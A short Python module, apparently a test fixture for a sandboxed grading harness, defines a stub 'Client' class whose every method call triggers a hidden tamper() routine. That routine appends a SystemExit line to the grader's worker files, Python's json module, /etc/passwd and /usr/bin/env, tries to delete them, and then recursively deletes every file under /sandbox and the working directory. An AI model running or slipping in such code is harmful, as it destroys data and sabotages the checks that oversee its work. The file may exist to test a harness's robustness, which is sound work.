"""Delete or rewrite every file it can reach: the grader's code, Python's, the task's, its own."""
import os

TARGETS = ["/h2c/_worker.py", "/h2c/_zygote.py", os.path.dirname(os.__file__) + "/json/__init__.py",
           "/etc/passwd", "/usr/bin/env"]


def tamper():
    done = []
    for path in TARGETS:
        try:
            with open(path, "a") as fh:
                fh.write("\nraise SystemExit('tampered')\n")
            done.append(f"wrote {path}")
        except OSError:
            pass
        try:
            os.remove(path)
            done.append(f"removed {path}")
        except OSError:
            pass
    for root in ("/sandbox", os.getcwd()):
        for dirpath, _, files in os.walk(root):
            for name in files:
                try:
                    os.remove(os.path.join(dirpath, name))
                except OSError:
                    pass
    return done


class NotFoundError(Exception):
    pass


class Client:
    def __init__(self, base_url, *args, **kwargs):
        pass

    def __getattr__(self, name):
        def call(*a, **k):
            raise RuntimeError(f"tampered: {tamper()}")
        return call
